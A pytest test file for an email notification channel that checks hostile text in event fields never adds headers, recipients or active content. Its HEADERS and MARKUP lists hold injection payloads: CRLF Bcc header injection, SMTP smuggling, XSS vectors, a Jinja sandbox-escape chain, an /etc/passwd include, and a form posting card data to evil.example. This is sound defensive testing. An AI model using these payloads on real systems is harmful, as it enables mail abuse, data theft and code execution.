"""Hostile text in every text field of every event type adds no header, recipient, or active content.

The fields are those of the schemas, so that a new one is covered by itself.
"""

from __future__ import annotations

import copy
import email
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.policy import default
from html.parser import HTMLParser
from typing import Any

import pytest
from marshmallow import Schema, fields

from actors.channels.email.channel import EmailChannel
from actors.channels.email.compose import OutgoingMail
from actors.channels.email.replies import Reply
from actors.channels.email.smtp import Transport
from app.events.catalog import CATALOG, check_event
from app.events.decode import InvalidEvent
from app.events.fields import Currency, Email, Text
from app.events.samples import sample, sample_names
from app.models import Notification
from app.settings import Settings

SAMPLES = [sample(name) for name in sample_names()]

HEADERS = (
    "\r\nBcc: victim@example.com",
    "\nBcc: victim@example.com",
    "\rBcc: victim@example.com",
    "\u0085Bcc: victim@example.com",
    "\u2028Bcc: victim@example.com",
    "\x0b\x0cBcc: victim@example.com",
    "\x00\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "\r\n.\r\nMAIL FROM:<victim@example.com>\r\n",
    "=?utf-8?q?=0D=0ABcc=3A_victim=40example=2Ecom?=",
    "=?utf-8?b?DQpCY2M6IHZpY3RpbUBleGFtcGxlLmNvbQ==?=",
    "\r\nEND:VEVENT\r\nBEGIN:VALARM",
    ", victim@example.com",
    " <victim@example.com>",
)

MARKUP = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></style></textarea></noscript><script>alert(1)</script>",
    "--><!--<script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    '" style="position:fixed;background:url(https://evil.example/x)',
    "</mj-text></mj-column><mj-raw><script>alert(1)</script></mj-raw>",
    '<mj-include path="/etc/passwd" />',
    "<a href=javascript:alert(1)>click</a>",
    "<base href=//evil.example/><form action=//evil.example><input name=card>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7717 * 7717 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " \x01javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/",
    'https://example.com/"onclick="alert(1)',
    "https://example.com/')}</style><script>alert(1)</script>",
    "https://user:password@example.com:99999/",
    "https://[::1",
)

#: The result of the arithmetic in `MARKUP`, if a template engine evaluates it.
RENDERED = str(7717 * 7717)

#: Path of names and positions to a field.
Way = tuple[str | int, ...]

SCHEMES = {"https", "http", "mailto", "tel", "cid"}
LINKS = {
    "href",
    "src",
    "background",
    "action",
    "formaction",
    "poster",
    "srcset",
    "cite",
    "data",
    "xlink:href",
}


@dataclass
class Seen:
    """The parts of a parsed mail that could be forged."""

    headers: set[str] = field(default_factory=set)
    types: set[str] = field(default_factory=set)
    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    calendar: set[str] = field(default_factory=set)


class Page(HTMLParser):
    """Records tags and attributes; fails on active content."""

    def __init__(self, seen: Seen) -> None:
        super().__init__()
        self._seen = seen
        self._script: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._seen.tags.add(tag)
        if tag == "script":
            assert dict(attrs) == {"type": "application/ld+json"}
            self._script = ""
        for name, value in attrs:
            self._seen.attributes.add(name)
            assert not name.startswith("on"), f"{name} on {tag}"
            assert name != "style" or not re.search(r"expression\(|javascript:|url\(", value or "")
            if name in LINKS:
                assert (value or "").partition(":")[0] in SCHEMES, f"{tag} {name}={value}"
                assert not re.match("[a-z]*:?//evil.example", value or "")

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script += data

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            json.loads(self._script)
            self._script = None


def look(mail: OutgoingMail, recipient: str) -> Seen:
    """Return the content of a mail. Fails if it has another recipient or active content."""
    assert mail.envelope_to == recipient
    message = email.message_from_bytes(mail.as_bytes(), policy=default)
    assert isinstance(message, EmailMessage)
    assert len(message.keys()) == len(set(message.keys())), "a header twice"
    assert message["To"] == recipient
    seen = Seen()
    for part in message.walk():
        headers = part.items()
        seen.headers |= {f"{part is message}:{name}" for name, _ in headers}
        assert not any(set("\r\n") & set(value) or RENDERED in value for _, value in headers)
        content_type = part.get_content_type()
        seen.types.add(content_type)
        if not content_type.startswith("text/"):
            continue
        content = part.get_content()
        assert RENDERED not in content, "a template in the data was run"
        if content_type == "text/html":
            Page(seen).feed(content)
        elif content_type == "text/calendar":
            lines = re.sub(r"\r?\n[ \t]", "", content).splitlines()
            seen.calendar |= {re.split("[:;]", line)[0] for line in lines}
    return seen


def text_fields(schema: Schema) -> Iterator[Way]:
    """Yield the path to each text field."""
    for name, declared in schema.fields.items():
        yield from ((name, *rest) for rest in _in(declared))


def _in(declared: fields.Field[Any]) -> Iterator[Way]:
    if isinstance(declared, fields.String):
        yield ()
    elif isinstance(declared, fields.Nested):
        yield from text_fields(declared.schema)
    elif isinstance(declared, fields.List):
        yield from ((0, *rest) for rest in _in(declared.inner))


def full(event_type: str) -> dict[str, Any]:
    """Return an event with every text field of its schema, at every depth."""
    event = max((event for event in SAMPLES if event["event_type"] == event_type), key=len)
    return _filled(CATALOG[event_type].schema, event)


def _filled(schema: Schema, known: dict[str, Any]) -> dict[str, Any]:
    """Return `known` with text in the missing fields of its schema."""
    values = {name: _value(name, declared, known.get(name)) for name, declared in schema.fields.items()}
    return known | {name: value for name, value in values.items() if value is not None}


def _value(name: str, declared: fields.Field[Any], known: Any) -> Any:
    if isinstance(declared, fields.Nested):
        return _filled(declared.schema, known or {})
    if isinstance(declared, fields.List):
        return [_value(name, declared.inner, item) for item in known or [None]]
    if known is None and isinstance(declared, fields.String) and not isinstance(declared, Currency | Email):
        return "https://example.com/" if name.endswith("_url") else "text"
    return known


def hostile_event(event: dict[str, Any], ways: list[Way], text: str, *, appended: bool) -> dict[str, Any]:
    """Return `event` with its text fields replaced by `text`, or with `text` appended."""
    event = copy.deepcopy(event)
    for way in ways:
        inner: Any = event
        for step in way[:-1]:
            inner = inner[step]
        inner[way[-1]] = inner[way[-1]] + text if appended else text
    return event


@pytest.fixture
def mails(monkeypatch: pytest.MonkeyPatch) -> list[OutgoingMail]:
    """Return the mail that would be transmitted."""
    handed_over: list[OutgoingMail] = []

    def send(self: Transport, mail: OutgoingMail) -> Reply:
        handed_over.append(mail)
        return Reply(250, "")

    monkeypatch.setattr(Transport, "send", send)
    return handed_over


def is_valid(event: dict[str, Any]) -> bool:
    try:
        check_event(event)
    except InvalidEvent:
        return False
    return True


@pytest.mark.parametrize("event_type", [name for name, kind in CATALOG.items() if kind.template])
def test_text_in_an_event_never_becomes_active_content(
    event_type: str, mails: list[OutgoingMail], settings: Settings
) -> None:
    channel = EmailChannel(settings)

    def mailed(event: dict[str, Any]) -> OutgoingMail:
        event, kind = check_event(event)
        delivery = Notification(
            event_id=event["event_id"],
            event_type=event["event_type"],
            notification_type="email",
            recipient=event["user_email"],
            template=kind.template,
            event_data=event,
        )
        channel.send(delivery)
        return mails.pop()

    event = full(event_type) | {"unknown_field": "text"}
    expected = look(mailed(event), event["user_email"])
    ways: list[Way] = [*text_fields(CATALOG[event_type].schema), ("unknown_field",)]
    checked = [
        way for way in ways if not is_valid(hostile_event(event, [way], "<b>\r\nx</b>", appended=False))
    ]
    assert {("user_email",), ("event_type",)} <= set(checked)
    plain = {name for name, declared in CATALOG[event_type].schema.fields.items() if type(declared) is Text}
    assert not {(name,) for name in plain - {"event_type"}} & set(checked), (
        "only ids, codes and addresses are refused"
    )
    for hostile in HEADERS + MARKUP:
        for appended in (False, True):
            # One invalid field makes the event invalid, and would hide the others.
            taken = [
                way
                for way in ways
                if way not in checked or is_valid(hostile_event(event, [way], hostile, appended=appended))
            ]
            mail = mailed(hostile_event(event, taken, hostile, appended=appended))
            assert "victim" not in mail.envelope_to
            seen = look(mail, mail.envelope_to if ("user_email",) in taken else event["user_email"])
            for what in vars(seen):
                extra = getattr(seen, what) - getattr(expected, what)
                assert not extra, f"{hostile!r} in {taken} made {what} {extra}"
